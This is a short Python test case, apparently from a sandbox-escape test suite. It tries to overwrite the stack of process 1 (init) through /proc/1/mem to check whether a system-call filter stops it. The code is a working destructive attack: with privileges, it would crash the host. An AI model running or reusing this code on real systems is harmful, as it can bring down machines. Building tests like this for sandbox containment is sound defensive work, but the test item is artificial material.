# story: overwrites the stack of process 1 through its memory file, past the filter of system calls
# row: escape: ptrace of init and others
# expect: plays
# not-bare: process 1 is the machine's
from hostile.honest import spy


def attack() -> str:
    with open("/proc/1/maps") as maps:
        line = next(line for line in maps if line.endswith("[stack]\n"))
    start, end = (int(word, 16) for word in line.split()[0].split("-"))
    with open("/proc/1/mem", "r+b", buffering=0) as memory:
        memory.seek(start)
        memory.write(bytes(end - start))
    return ""


spy(attack)
